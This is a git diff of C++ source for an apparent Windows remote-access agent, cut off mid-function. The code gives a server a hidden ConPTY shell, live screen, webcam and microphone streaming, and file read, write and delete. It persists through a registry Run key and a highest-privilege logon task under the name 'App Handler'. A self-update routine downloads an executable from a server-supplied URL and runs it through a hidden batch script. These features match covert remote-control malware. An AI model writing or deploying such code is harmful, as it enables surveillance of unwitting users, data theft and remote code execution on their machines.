@@ -1,13 +1,15 @@
-// Target Windows 10 or later (Required for PseudoConsole/ConPTY)
-#define _WIN32_WINNT 0x0A00
-#define WIN32_LEAN_AND_MEAN
-#define NOMINMAX
-#include <winsock2.h>
+// Windows backend: ConPTY, an IOCP socket loop with SChannel TLS, WinHTTP (self-update), PDH
+// and the IP helper, GDI+, Media Foundation, WASAPI, the registry and Task Scheduler. Platform.h describes what each function promises.
+
+#include "Agent.h"
+
 #include <ws2tcpip.h>
 #include <iphlpapi.h>
 #include <netioapi.h>
-#include <windows.h>
 #include <winhttp.h>
+#define SECURITY_WIN32
+#include <security.h>
+#include <schannel.h>
 #include <taskschd.h>
 #include <comdef.h>
 #include <mfapi.h>
@@ -16,25 +18,27 @@
 #include <mmdeviceapi.h>
 #include <Audioclient.h>
 #include <Functiondiscoverykeys_devpkey.h>
+#include <deque>
 #include <iostream>
 #include <string>
 #include <sstream>
 #include <thread>
 #include <mutex>
+#include <chrono>
 #include <atomic>
 #include <memory>
-#include <shlobj.h>
+#include <unordered_map>
 #include <lmcons.h>
 #include <gdiplus.h>
 #include <vector>
 #include <algorithm>
 #include <pdh.h>
 #include <pdhmsg.h>
-#include "json.hpp"
 
 using namespace Gdiplus;
-using json = nlohmann::json;
 
+#pragma comment(lib, "ws2_32.lib")
+#pragma comment(lib, "secur32.lib")
 #pragma comment(lib, "winhttp.lib")
 #pragma comment(lib, "advapi32.lib")
 #pragma comment(lib, "taskschd.lib")
@@ -48,1105 +52,1008 @@ using json = nlohmann::json;
 #pragma comment(lib, "mfreadwrite.lib")
 #pragma comment(lib, "mfuuid.lib")
 
-namespace Config {
-    // Debug Mode
-#ifdef _DEBUG
+// ============ Process ============
 
-    const bool DEBUG_MODE = true;                    // Set false for production
-#else
-	const bool DEBUG_MODE = false;                   // Set false for production
-#endif
-    // WebSocket Server Configuration
-    const wchar_t* SERVER_HOST = L"localhost";       // domain or localhost
-    const int SERVER_PORT = 9991;                    // Change to your server port
-    const bool USE_SSL = false;                      // Set true for ssl
-
-    // Application Settings
-    const wchar_t* APP_NAME = L"App Handler";        // Name in registry
-    const bool AUTO_START = true;                    // Enable auto-start on login (ignored if DEBUG_MODE)
-    const bool AUTO_RESTART_ON_CRASH = true;         // Enable Task Scheduler auto-restart
-
-    // Reconnection Settings
-    const int RECONNECT_DELAY_MS = 5000;             // Delay before reconnect (ms)
-    const int MAX_RECONNECT_ATTEMPTS = 0;            // 0 = infinite retry
-    const int RECONNECT_BACKOFF_MAX_MS = 60000;      // Max backoff delay (1 minute)
-    const bool USE_EXPONENTIAL_BACKOFF = true;       // Increase delay on repeated failures
-    
-    // Keep-Alive Settings
-    const int KEEP_ALIVE_INTERVAL_MS = 30000;        // Send ping every 30 seconds to prevent timeout
+ULONG_PTR g_gdiplusToken;
+thread_local HRESULT t_coInit = E_FAIL;
 
-    // Terminal Settings
-    const int CONSOLE_WIDTH = 120;                   // Terminal columns
-    const int CONSOLE_HEIGHT = 30;                   // Terminal rows
+void PlatformInit() {
+    // Enable DPI awareness to ensure screen capture gets full physical resolution
+    SetProcessDpiAwarenessContext(DPI_AWARENESS_CONTEXT_PER_MONITOR_AWARE_V2);
 
-    // Version
-    const wchar_t* APP_VERSION = L"1.0.0";
+    // Initialize GDI+
+    GdiplusStartupInput gdiplusStartupInput;
+    GdiplusStartup(&g_gdiplusToken, &gdiplusStartupInput, NULL);
 
-    // User ID, get id in dashboard
-    const wchar_t* USER_ID = L""; 
+    WSADATA wsaData;
+    WSAStartup(MAKEWORD(2, 2), &wsaData);
 }
 
-struct AppState {
-    HANDLE hPipeIn = INVALID_HANDLE_VALUE;
-    HANDLE hPipeOut = INVALID_HANDLE_VALUE;
-    HPCON hPseudoConsole = nullptr;
-    HANDLE hProcess = INVALID_HANDLE_VALUE;
-    HINTERNET hSession = nullptr;
-    HINTERNET hConnect = nullptr;
-    HINTERNET hWebSocket = nullptr;
-    std::atomic<bool> running{ true };
-    std::atomic<bool> wsConnected{ false };
-    std::atomic<bool> shouldReconnect{ true };
-    std::mutex wsMutex;
-    int reconnectAttempts = 0;
-    DWORD lastPingTime = 0;
-    DWORD lastMetricsTime = 0;
-    ULONG_PTR gdiplusToken;
-
-    // Streaming state
-    std::atomic<bool> isStreamingScreen{ false };
-    std::atomic<bool> isStreamingCam{ false };
-    std::atomic<bool> isStreamingMic{ false };
-    std::string currentDeviceId;
-} g_state;
-
-// Metrics Globals
-PDH_HQUERY cpuQuery;
-PDH_HCOUNTER cpuTotal;
-unsigned long long lastNetUp = 0;
-unsigned long long lastNetDown = 0;
-DWORD lastNetCheck = 0;
-
-typedef HRESULT(WINAPI* PFN_CreatePseudoConsole)(COORD, HANDLE, HANDLE, DWORD, HPCON*);
-typedef void(WINAPI* PFN_ClosePseudoConsole)(HPCON);
-typedef HRESULT(WINAPI* PFN_ResizePseudoConsole)(HPCON, COORD);
-
-PFN_CreatePseudoConsole g_CreatePseudoConsole = nullptr;
-PFN_ClosePseudoConsole g_ClosePseudoConsole = nullptr;
-PFN_ResizePseudoConsole g_ResizePseudoConsole = nullptr;
-
-// Forward declarations
-void Cleanup(bool fullCleanup = false);
-bool CreateConPTY();
-bool ConnectWebSocket(const std::string& deviceId, const std::string& deviceName);
-
-// Load ConPTY API
-bool LoadConPTYAPI() {
-    HMODULE hKernel = GetModuleHandleW(L"kernel32.dll");
-    if (!hKernel) return false;
-
-    g_CreatePseudoConsole = (PFN_CreatePseudoConsole)GetProcAddress(hKernel, "CreatePseudoConsole");
-    g_ClosePseudoConsole = (PFN_ClosePseudoConsole)GetProcAddress(hKernel, "ClosePseudoConsole");
-    g_ResizePseudoConsole = (PFN_ResizePseudoConsole)GetProcAddress(hKernel, "ResizePseudoConsole");
-
-    return (g_CreatePseudoConsole && g_ClosePseudoConsole && g_ResizePseudoConsole);
+// Workers capture screenshots and enumerate devices, which need COM.
+void PlatformThreadInit() {
+    t_coInit = CoInitializeEx(NULL, COINIT_MULTITHREADED);
 }
 
-void InitMetrics() {
-    PdhOpenQuery(NULL, NULL, &cpuQuery);
-    PdhAddEnglishCounter(cpuQuery, L"\\Processor(_Total)\\% Processor Time", NULL, &cpuTotal);
-    PdhCollectQueryData(cpuQuery);
+void PlatformThreadExit() {
+    if (SUCCEEDED(t_coInit)) CoUninitialize();
 }
 
-double GetCpuUsage() {
-    PDH_FMT_COUNTERVALUE counterVal;
-    PdhCollectQueryData(cpuQuery);
-    PdhGetFormattedCounterValue(cpuTotal, PDH_FMT_DOUBLE, NULL, &counterVal);
-    return counterVal.doubleValue;
+std::wstring GetExecutablePath() {
+    wchar_t exePath[MAX_PATH];
+    GetModuleFileNameW(nullptr, exePath, MAX_PATH);
+    return exePath;
 }
 
-int GetRamUsage() {
-    MEMORYSTATUSEX memInfo;
-    memInfo.dwLength = sizeof(MEMORYSTATUSEX);
-    GlobalMemoryStatusEx(&memInfo);
-    return memInfo.dwMemoryLoad; // % usage
+std::vector<std::string> ListDriveRoots() {
+    DWORD drives = GetLogicalDrives();
+    std::vector<std::string> driveList;
+    for (int i = 0; i < 26; i++) {
+        if (drives & (1 << i)) {
+            std::string driveName;
+            driveName += (char)('A' + i);
+            driveName += ":\\";
+            driveList.push_back(driveName);
+        }
+    }
+    return driveList;
 }
 
-int GetDiskUsage() {
-    ULARGE_INTEGER freeBytesAvailable, totalNumberOfBytes, totalNumberOfFreeBytes;
-    if (GetDiskFreeSpaceEx(L"C:\\", &freeBytesAvailable, &totalNumberOfBytes, &totalNumberOfFreeBytes)) {
-        double total = (double)totalNumberOfBytes.QuadPart;
-        double free = (double)totalNumberOfFreeBytes.QuadPart;
-        return (int)((1.0 - (free / total)) * 100.0);
+bool ReadMappedView(const std::function<void()>& read) {
+    __try {
+        read();
+        return true;
+    }
+    __except (GetExceptionCode() == EXCEPTION_IN_PAGE_ERROR ? EXCEPTION_EXECUTE_HANDLER : EXCEPTION_CONTINUE_SEARCH) {
+        return false;
     }
-    return 0;
 }
 
-struct NetStats {
-    double upKBps;
-    double downKBps;
-};
-
-NetStats GetNetworkUsage() {
-    MIB_IF_TABLE2* table;
-    if (GetIfTable2(&table) != NO_ERROR) return { 0, 0 };
+void RestartSystem() {
+    system("shutdown /r /t 0");
+}
 
-    unsigned long long totalTx = 0;
-    unsigned long long totalRx = 0;
+void ShutdownSystem() {
+    system("shutdown /s /t 0");
+}
 
-    for (int i = 0; i < table->NumEntries; i++) {
-        totalTx += table->Table[i].OutOctets;
-        totalRx += table->Table[i].InOctets;
+bool CreateAutoRestartTask(const std::wstring& appPath) {
+    if (Config::DEBUG_MODE || !Config::AUTO_RESTART_ON_CRASH) {
+        return true;
     }
-    FreeMibTable(table);
 
-    DWORD now = GetTickCount();
-    double timeDiff = (now - lastNetCheck) / 1000.0;
-    if (timeDiff < 0.1) return { 0, 0 }; // Too fast
+    HRESULT hr = CoInitializeEx(nullptr, COINIT_MULTITHREADED);
+    if (FAILED(hr)) return false;
 
-    double upSpeed = 0;
-    double downSpeed = 0;
+    ITaskService* pService = nullptr;
+    hr = CoCreateInstance(CLSID_TaskScheduler, nullptr, CLSCTX_INPROC_SERVER,
+        IID_ITaskService, (void**)&pService);
 
-    if (lastNetCheck != 0) {
-        upSpeed = (totalTx - lastNetUp) / timeDiff / 1024.0; // KB/s
-        downSpeed = (totalRx - lastNetDown) / timeDiff / 1024.0; // KB/s
-    }
+    if (SUCCEEDED(hr)) {
+        hr = pService->Connect(_variant_t(), _variant_t(), _variant_t(), _variant_t());
 
-    lastNetUp = totalTx;
-    lastNetDown = totalRx;
-    lastNetCheck = now;
+        if (SUCCEEDED(hr)) {
+            ITaskFolder* pRootFolder = nullptr;
+            hr = pService->GetFolder(_bstr_t(L"\\"), &pRootFolder);
 
-    return { upSpeed, downSpeed };
-}
+            if (SUCCEEDED(hr)) {
+                // Delete existing task
+                pRootFolder->DeleteTask(_bstr_t(Config::APP_NAME), 0);
 
-// Get HWID using WMIC
-std::string GetHWID() {
-    std::string hwid;
-    HANDLE hRead, hWrite;
-    SECURITY_ATTRIBUTES sa = { sizeof(SECURITY_ATTRIBUTES), nullptr, TRUE };
+                ITaskDefinition* pTask = nullptr;
+                hr = pService->NewTask(0, &pTask);
 
-    if (CreatePipe(&hRead, &hWrite, &sa, 0)) {
-        STARTUPINFOW si = { sizeof(STARTUPINFOW) };
-        si.dwFlags = STARTF_USESTDHANDLES | STARTF_USESHOWWINDOW;
-        si.hStdOutput = hWrite;
-        si.hStdError = hWrite;
-        si.wShowWindow = SW_HIDE;
+                if (SUCCEEDED(hr)) {
+                    // Set registration info
+                    IRegistrationInfo* pRegInfo = nullptr;
+                    pTask->get_RegistrationInfo(&pRegInfo);
+                    if (pRegInfo) {
+                        pRegInfo->put_Author(_bstr_t(L"AgentHandler"));
+                        pRegInfo->put_Description(_bstr_t(L"Auto-restart AgentHandler on crash"));
+                        pRegInfo->Release();
+                    }
 
-        PROCESS_INFORMATION pi = {};
-        wchar_t cmd[] = L"wmic csproduct get uuid";
+                    // Set principal (run with highest privileges)
+                    IPrincipal* pPrincipal = nullptr;
+                    pTask->get_Principal(&pPrincipal);
+                    if (pPrincipal) {
+                        pPrincipal->put_RunLevel(TASK_RUNLEVEL_HIGHEST);
+                        pPrincipal->Release();
+                    }
 
-        if (CreateProcessW(nullptr, cmd, nullptr, nullptr, TRUE,
-            CREATE_NO_WINDOW, nullptr, nullptr, &si, &pi)) {
+                    // Set settings
+                    ITaskSettings* pSettings = nullptr;
+                    pTask->get_Settings(&pSettings);
+                    if (pSettings) {
+                        pSettings->put_StartWhenAvailable(VARIANT_TRUE);
+                        pSettings->put_DisallowStartIfOnBatteries(VARIANT_FALSE);
+                        pSettings->put_StopIfGoingOnBatteries(VARIANT_FALSE);
+                        pSettings->put_RestartCount(3);
+                        pSettings->put_RestartInterval(_bstr_t(L"PT1M")); // 1 minute
+                        pSettings->Release();
+                    }
 
-            WaitForSingleObject(pi.hProcess, 5000);
-            CloseHandle(hWrite);
+                    // Create trigger (on logon)
+                    ITriggerCollection* pTriggerCollection = nullptr;
+                    pTask->get_Triggers(&pTriggerCollection);
+                    if (pTriggerCollection) {
+                        ITrigger* pTrigger = nullptr;
+                        pTriggerCollection->Create(TASK_TRIGGER_LOGON, &pTrigger);
+                        if (pTrigger) {
+                            ILogonTrigger* pLogonTrigger = nullptr;
+                            pTrigger->QueryInterface(IID_ILogonTrigger, (void**)&pLogonTrigger);
+                            if (pLogonTrigger) {
+                                pLogonTrigger->put_Id(_bstr_t(L"LogonTriggerId"));
+                                pLogonTrigger->Release();
+                            }
+                            pTrigger->Release();
+                        }
+                        pTriggerCollection->Release();
+                    }
 
-            char buffer[512];
-            DWORD bytesRead;
-            std::string output;
+                    // Create action
+                    IActionCollection* pActionCollection = nullptr;
+                    pTask->get_Actions(&pActionCollection);
+                    if (pActionCollection) {
+                        IAction* pAction = nullptr;
+                        pActionCollection->Create(TASK_ACTION_EXEC, &pAction);
+                        if (pAction) {
+                            IExecAction* pExecAction = nullptr;
+                            pAction->QueryInterface(IID_IExecAction, (void**)&pExecAction);
+                            if (pExecAction) {
+                                pExecAction->put_Path(_bstr_t(appPath.c_str()));
+                                pExecAction->Release();
+                            }
+                            pAction->Release();
+                        }
+                        pActionCollection->Release();
+                    }
 
-            while (ReadFile(hRead, buffer, sizeof(buffer) - 1, &bytesRead, nullptr) && bytesRead > 0) {
-                buffer[bytesRead] = '\0';
-                output += buffer;
-            }
+                    // Register task
+                    IRegisteredTask* pRegisteredTask = nullptr;
+                    hr = pRootFolder->RegisterTaskDefinition(
+                        _bstr_t(Config::APP_NAME),
+                        pTask,
+                        TASK_CREATE_OR_UPDATE,
+                        _variant_t(),
+                        _variant_t(),
+                        TASK_LOGON_INTERACTIVE_TOKEN,
+                        _variant_t(L""),
+                        &pRegisteredTask);
 
-            // Parse UUID from output
-            size_t pos = output.find('\n');
-            if (pos != std::string::npos && pos + 1 < output.size()) {
-                std::string line = output.substr(pos + 1);
-                size_t start = line.find_first_not_of(" \t\r\n");
-                size_t end = line.find_last_not_of(" \t\r\n");
-                if (start != std::string::npos && end != std::string::npos) {
-                    hwid = line.substr(start, end - start + 1);
+                    if (pRegisteredTask) pRegisteredTask->Release();
+                    pTask->Release();
                 }
+                pRootFolder->Release();
             }
-
-            CloseHandle(pi.hProcess);
-            CloseHandle(pi.hThread);
         }
-        else {
-            CloseHandle(hWrite);
-        }
-        CloseHandle(hRead);
-    }
-
-    // Fallback
-    if (hwid.empty()) {
-        wchar_t hostname[MAX_COMPUTERNAME_LENGTH + 1];
-        wchar_t username[UNLEN + 1];
-        DWORD size = MAX_COMPUTERNAME_LENGTH + 1;
-        GetComputerNameW(hostname, &size);
-        size = UNLEN + 1;
-        GetUserNameW(username, &size);
-
-        char hBuffer[512], uBuffer[512];
-        WideCharToMultiByte(CP_UTF8, 0, hostname, -1, hBuffer, sizeof(hBuffer), nullptr, nullptr);
-        WideCharToMultiByte(CP_UTF8, 0, username, -1, uBuffer, sizeof(uBuffer), nullptr, nullptr);
-        hwid = std::string(hBuffer) + "-" + std::string(uBuffer);
+        pService->Release();
     }
 
-    return hwid;
+    CoUninitialize();
+    return SUCCEEDED(hr);
 }
 
-// ============ File System Helpers ============
+bool DownloadFile(const std::string& url, const std::wstring& destPath) {
+    // Parse URL
+    std::wstring wUrl = Utf8ToWide(url);
 
-// Forward declaration
-std::string Base64Encode(unsigned char const* bytes_to_encode, unsigned int in_len);
+    URL_COMPONENTS urlComp = { sizeof(URL_COMPONENTS) };
+    wchar_t scheme[32], host[256], path[1024];
+    urlComp.lpszScheme = scheme; urlComp.dwSchemeLength = 32;
+    urlComp.lpszHostName = host; urlComp.dwHostNameLength = 256;
+    urlComp.lpszUrlPath = path; urlComp.dwUrlPathLength = 1024;
 
-std::string WideToUtf8(const std::wstring& wstr) {
-    if (wstr.empty()) return std::string();
-    int size = WideCharToMultiByte(CP_UTF8, 0, wstr.c_str(), (int)wstr.size(), nullptr, 0, nullptr, nullptr);
-    std::string str(size, 0);
-    WideCharToMultiByte(CP_UTF8, 0, wstr.c_str(), (int)wstr.size(), &str[0], size, nullptr, nullptr);
-    return str;
-}
+    if (!WinHttpCrackUrl(wUrl.c_str(), 0, 0, &urlComp)) return false;
 
-std::wstring Utf8ToWide(const std::string& str) {
-    if (str.empty()) return std::wstring();
-    int size = MultiByteToWideChar(CP_UTF8, 0, str.c_str(), (int)str.size(), nullptr, 0);
-    std::wstring wstr(size, 0);
-    MultiByteToWideChar(CP_UTF8, 0, str.c_str(), (int)str.size(), &wstr[0], size);
-    return wstr;
-}
+    bool useSSL = (urlComp.nScheme == INTERNET_SCHEME_HTTPS);
 
-void SendWsMessage(const json& msg) {
-    std::string msgStr = msg.dump();
-    printf("[SENT]: %s\n", msgStr.c_str());
-    std::lock_guard<std::mutex> lock(g_state.wsMutex);
-    if (g_state.hWebSocket && g_state.wsConnected) {
-        WinHttpWebSocketSend(g_state.hWebSocket,
-            WINHTTP_WEB_SOCKET_UTF8_MESSAGE_BUFFER_TYPE,
-            (PVOID)msgStr.c_str(), (DWORD)msgStr.length());
-    }
-}
+    HINTERNET hSession = WinHttpOpen(L"AgentUpdater/1.0",
+        WINHTTP_ACCESS_TYPE_AUTOMATIC_PROXY, nullptr, nullptr, 0);
+    if (!hSession) return false;
 
-void HandleFileSystemCommand(const json& msg) {
-    std::string action = msg.value("action", "");
-    std::string path = msg.value("path", "");
-    std::string requestId = msg.value("requestId", "");
+    HINTERNET hConnect = WinHttpConnect(hSession, host, urlComp.nPort, 0);
+    HINTERNET hRequest = WinHttpOpenRequest(hConnect, L"GET", path,
+        nullptr, nullptr, nullptr, useSSL ? WINHTTP_FLAG_SECURE : 0);
 
-    // Security: Basic path traversal protection
-    if (path.find("..") != std::string::npos || (msg.contains("newPath") && msg["newPath"].get<std::string>().find("..") != std::string::npos)) {
-        json response;
-        response["type"] = "filesystem";
-        response["action"] = action;
-        response["requestId"] = requestId;
-        response["success"] = false;
-        response["error"] = "Access denied: Path traversal detected";
-        SendWsMessage(response);
-        return;
-    }
-    
-    json response;
-    response["type"] = "filesystem";
-    response["action"] = action;
-    response["requestId"] = requestId;
-    std::wstring wpath = Utf8ToWide(path);
-    
-    if (action == "ls") {
-        // List directory contents
-        json files = json::array();
-        std::wstring searchPath = wpath;
-        if (!searchPath.empty() && searchPath.back() != L'\\') {
-            searchPath += L"\\";
-        }
-        searchPath += L"*";
-        printf("SearchPath: %s\n", searchPath.c_str());
-        WIN32_FIND_DATAW findData;
-        HANDLE hFind = FindFirstFileW(searchPath.c_str(), &findData);
-        
-        if (hFind != INVALID_HANDLE_VALUE) {
-            printf("Valid\n");
+    bool success = false;
+    if (WinHttpSendRequest(hRequest, nullptr, 0, nullptr, 0, 0, 0) &&
+        WinHttpReceiveResponse(hRequest, nullptr)) {
 
-            do {
-                std::wstring name = findData.cFileName;
-                if (name == L"." || name == L"..") continue;
-                
-                json fileInfo;
-                fileInfo["name"] = WideToUtf8(name);
-                fileInfo["isDir"] = (findData.dwFileAttributes & FILE_ATTRIBUTE_DIRECTORY) != 0;
-                
-                ULARGE_INTEGER fileSize;
-                fileSize.LowPart = findData.nFileSizeLow;
-                fileSize.HighPart = findData.nFileSizeHigh;
-                fileInfo["size"] = fileSize.QuadPart;
-                
-                // Convert FILETIME to milliseconds since epoch
-                ULARGE_INTEGER ftime;
-                ftime.LowPart = findData.ftLastWriteTime.dwLowDateTime;
-                ftime.HighPart = findData.ftLastWriteTime.dwHighDateTime;
-                // Windows FILETIME is 100-nanosecond intervals since Jan 1, 1601
-                // Convert to Unix timestamp (ms since 1970)
-                fileInfo["modifiedAt"] = (ftime.QuadPart - 116444736000000000ULL) / 10000;
-                
-                files.push_back(fileInfo);
-            } while (FindNextFileW(hFind, &findData));
-            FindClose(hFind);
-            
-            response["success"] = true;
-            response["data"] = files;
-            response["path"] = path;
-        } else {
-            response["success"] = false;
-            response["error"] = "Failed to list directory";
-        }
-    }
-    else if (action == "read") {
-        long long offset = msg.value("offset", 0LL);
-        long long length = msg.value("length", 1024LL * 1024LL); // Default 1MB chunk
-        
-        HANDLE hFile = CreateFileW(wpath.c_str(), GENERIC_READ, FILE_SHARE_READ, nullptr,
-            OPEN_EXISTING, FILE_ATTRIBUTE_NORMAL, nullptr);
-        
-        if (hFile != INVALID_HANDLE_VALUE) {
-            LARGE_INTEGER fileSize;
-            GetFileSizeEx(hFile, &fileSize);
-            response["totalSize"] = fileSize.QuadPart;
-
-            if (offset >= fileSize.QuadPart) {
-                response["success"] = true;
-                response["data"] = "";
-                response["size"] = 0;
-            } else {
-                if (offset + length > fileSize.QuadPart) {
-                    length = fileSize.QuadPart - offset;
-                }
+        HANDLE hFile = CreateFileW(destPath.c_str(), GENERIC_WRITE, 0,
+            nullptr, CREATE_ALWAYS, FILE_ATTRIBUTE_NORMAL, nullptr);
 
-                LARGE_INTEGER liOffset;
-                liOffset.QuadPart = offset;
-                SetFilePointerEx(hFile, liOffset, nullptr, FILE_BEGIN);
-
-                std::vector<BYTE> buffer((size_t)length);
-                DWORD bytesRead;
-                if (ReadFile(hFile, buffer.data(), (DWORD)buffer.size(), &bytesRead, nullptr)) {
-                    response["success"] = true;
-                    response["data"] = Base64Encode(buffer.data(), bytesRead);
-                    response["size"] = bytesRead;
-                    response["offset"] = offset;
-                } else {
-                    response["success"] = false;
-                    response["error"] = "Failed to read file";
-                }
-            }
-            CloseHandle(hFile);
-        } else {
-            response["success"] = false;
-            response["error"] = "Failed to open file";
-        }
-    }
-    else if (action == "write") {
-        // Write base64 data to file
-        std::string data = msg.value("data", "");
-        
-        // Decode base64
-        std::vector<BYTE> decoded;
-        // Simple base64 decode
-        auto base64_decode = [](const std::string& encoded) -> std::vector<BYTE> {
-            std::vector<BYTE> result;
-            static const std::string chars = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
-            std::vector<int> T(256, -1);
-            for (int i = 0; i < 64; i++) T[chars[i]] = i;
-            
-            int val = 0, valb = -8;
-            for (unsigned char c : encoded) {
-                if (T[c] == -1) break;
-                val = (val << 6) + T[c];
-                valb += 6;
-                if (valb >= 0) {
-                    result.push_back((BYTE)((val >> valb) & 0xFF));
-                    valb -= 8;
-                }
-            }
-            return result;
-        };
-        
-        decoded = base64_decode(data);
-        
-        HANDLE hFile = CreateFileW(wpath.c_str(), GENERIC_WRITE, 0, nullptr,
-            CREATE_ALWAYS, FILE_ATTRIBUTE_NORMAL, nullptr);
-        
         if (hFile != INVALID_HANDLE_VALUE) {
-            DWORD bytesWritten;
-            if (WriteFile(hFile, decoded.data(), (DWORD)decoded.size(), &bytesWritten, nullptr)) {
-                response["success"] = true;
-                response["size"] = bytesWritten;
-            } else {
-                response["success"] = false;
-                response["error"] = "Failed to write file";
+            BYTE buf[8192];
+            DWORD bytesRead;
+            success = true;
+            while (WinHttpReadData(hRequest, buf, sizeof(buf), &bytesRead) && bytesRead > 0) {
+                DWORD written;
+                if (!WriteFile(hFile, buf, bytesRead, &written, nullptr)) {
+                    success = false;
+                    break;
+                }
             }
             CloseHandle(hFile);
-        } else {
-            response["success"] = false;
-            response["error"] = "Failed to create file";
         }
     }
-    else if (action == "delete") {
-        DWORD attrs = GetFileAttributesW(wpath.c_str());
-        if (attrs == INVALID_FILE_ATTRIBUTES) {
-            response["success"] = false;
-            response["error"] = "File/folder not found";
-        } else if (attrs & FILE_ATTRIBUTE_DIRECTORY) {
-            if (RemoveDirectoryW(wpath.c_str())) {
-                response["success"] = true;
-            } else {
-                response["success"] = false;
-                response["error"] = "Failed to delete directory (must be empty)";
-            }
-        } else {
-            if (DeleteFileW(wpath.c_str())) {
-                response["success"] = true;
-            } else {
-                response["success"] = false;
-                response["error"] = "Failed to delete file";
-            }
-        }
+
+    WinHttpCloseHandle(hRequest);
+    WinHttpCloseHandle(hConnect);
+    WinHttpCloseHandle(hSession);
+    return success;
+}
+
+
+void PerformUpdate(const std::string& updateUrl) {
+    printf("Starting update from: %s\n", updateUrl.c_str());
+    
+    // 1. Dapatkan path executable saat ini
+    wchar_t exePath[MAX_PATH];
+    GetModuleFileNameW(nullptr, exePath, MAX_PATH);
+    std::wstring currentPath(exePath);
+    
+    // 2. Tentukan path temp untuk download
+    wchar_t tempDir[MAX_PATH];
+    GetTempPathW(MAX_PATH, tempDir);
+    std::wstring tempPath = std::wstring(tempDir) + L"agent_update.exe";
+    std::wstring batchPath = std::wstring(tempDir) + L"do_update.bat";
+    
+    // 3. Download file baru
+    json statusMsg;
+    statusMsg["type"] = "update_status";
+    statusMsg["stage"] = "downloading";
+    SendWsMessage(statusMsg);
+    
+    bool downloaded = DownloadFile(updateUrl, tempPath);
+    if (!downloaded) {
+        json resp;
+        resp["type"] = "update_status";
+        resp["success"] = false;
+        resp["error"] = "Download failed";
+        SendWsMessage(resp);
+        return;
     }
-    else if (action == "rename") {
-        std::string newPath = msg.value("newPath", "");
-        std::wstring wnewPath = Utf8ToWide(newPath);
-        
-        if (MoveFileW(wpath.c_str(), wnewPath.c_str())) {
-            response["success"] = true;
-        } else {
-            response["success"] = false;
-            response["error"] = "Failed to rename";
-        }
+    
+    // 4. Buat batch script yang akan:
+    //    - Tunggu process lama mati
+    //    - Replace file
+    //    - Jalankan yang baru
+    DWORD pid = GetCurrentProcessId();
+    
+    std::wstring batch = L"@echo off\r\n";
+    batch += L"timeout /t 2 /nobreak > nul\r\n";
+    batch += L":waitloop\r\n";
+    batch += L"tasklist /FI \"PID eq " + std::to_wstring(pid) + L"\" 2>NUL | find /I /N \"" + std::to_wstring(pid) + L"\">NUL\r\n";
+    batch += L"if \"%ERRORLEVEL%\"==\"0\" goto waitloop\r\n";
+    batch += L"copy /Y \"" + tempPath + L"\" \"" + currentPath + L"\"\r\n";
+    batch += L"start \"\" \"" + currentPath + L"\"\r\n";
+    batch += L"del \"%~f0\"\r\n"; // Self-delete batch
+    
+    // Tulis batch file
+    HANDLE hBatch = CreateFileW(batchPath.c_str(), GENERIC_WRITE, 0, nullptr,
+        CREATE_ALWAYS, FILE_ATTRIBUTE_NORMAL, nullptr);
+    if (hBatch != INVALID_HANDLE_VALUE) {
+        std::string batchUtf8 = WideToUtf8(batch);
+        DWORD written;
+        WriteFile(hBatch, batchUtf8.c_str(), (DWORD)batchUtf8.size(), &written, nullptr);
+        CloseHandle(hBatch);
     }
-    else if (action == "mkdir") {
-        if (CreateDirectoryW(wpath.c_str(), nullptr)) {
-            response["success"] = true;
-        } else {
-            DWORD err = GetLastError();
-            if (err == ERROR_ALREADY_EXISTS) {
-                response["success"] = true; // Already exists, consider it success
-            } else {
-                response["success"] = false;
-                response["error"] = "Failed to create directory";
-            }
+    
+    // 5. Notify server lalu exit
+    json resp;
+    resp["type"] = "update_status";
+    resp["success"] = true;
+    resp["stage"] = "applying";
+    SendWsMessage(resp);
+    
+    Sleep(500); // Beri waktu message terkirim
+    
+    // Jalankan batch script
+    STARTUPINFOW si = { sizeof(STARTUPINFOW) };
+    si.wShowWindow = SW_HIDE;
+    si.dwFlags = STARTF_USESHOWWINDOW;
+    PROCESS_INFORMATION pi = {};
+    
+    std::wstring cmd = L"cmd.exe /C \"" + batchPath + L"\"";
+    CreateProcessW(nullptr, (LPWSTR)cmd.c_str(), nullptr, nullptr,
+        FALSE, CREATE_NO_WINDOW, nullptr, nullptr, &si, &pi);
+    
+    if (pi.hProcess) CloseHandle(pi.hProcess);
+    if (pi.hThread) CloseHandle(pi.hThread);
+    
+    // Exit process agar batch bisa replace file
+    g_state.running = false;
+    g_state.shouldReconnect = false;
+    ExitProcess(0);
+}
+
+bool SetAutoStart(const std::wstring& appPath) {
+    if (Config::DEBUG_MODE) {
+        HKEY hKey;
+        if (RegOpenKeyExW(HKEY_CURRENT_USER,
+            L"Software\\Microsoft\\Windows\\CurrentVersion\\Run",
+            0, KEY_SET_VALUE, &hKey) == ERROR_SUCCESS) {
+            RegDeleteValueW(hKey, Config::APP_NAME);
+            RegCloseKey(hKey);
         }
+        return true;
     }
-    else if (action == "drives") {
-        DWORD drives = GetLogicalDrives();
-        json driveList = json::array();
-        for (int i = 0; i < 26; i++) {
-            if (drives & (1 << i)) {
-                std::string driveName;
-                driveName += (char)('A' + i);
-                driveName += ":\\";
-                driveList.push_back(driveName);
-            }
-        }
-        response["success"] = true;
-        response["data"] = driveList;
-    }
-    else {
-        response["success"] = false;
-        response["error"] = "Unknown action";
-    }
-    SendWsMessage(response);
-}
-
-// Base64 Encoding
-static const std::string base64_chars =
-"ABCDEFGHIJKLMNOPQRSTUVWXYZ"
-"abcdefghijklmnopqrstuvwxyz"
-"0123456789+/";
-
-std::string Base64Encode(unsigned char const* bytes_to_encode, unsigned int in_len) {
-    std::string ret;
-    int i = 0;
-    int j = 0;
-    unsigned char char_array_3[3];
-    unsigned char char_array_4[4];
-
-    while (in_len--) {
-        char_array_3[i++] = *(bytes_to_encode++);
-        if (i == 3) {
-            char_array_4[0] = (char_array_3[0] & 0xfc) >> 2;
-            char_array_4[1] = ((char_array_3[0] & 0x03) << 4) + ((char_array_3[1] & 0xf0) >> 4);
-            char_array_4[2] = ((char_array_3[1] & 0x0f) << 2) + ((char_array_3[2] & 0xc0) >> 6);
-            char_array_4[3] = char_array_3[2] & 0x3f;
-
-            for (i = 0; (i < 4); i++)
-                ret += base64_chars[char_array_4[i]];
-            i = 0;
-        }
+
+    if (!Config::AUTO_START) return true;
+
+    HKEY hKey;
+    LONG result = RegOpenKeyExW(HKEY_CURRENT_USER,
+        L"Software\\Microsoft\\Windows\\CurrentVersion\\Run",
+        0, KEY_SET_VALUE, &hKey);
+
+    if (result == ERROR_SUCCESS) {
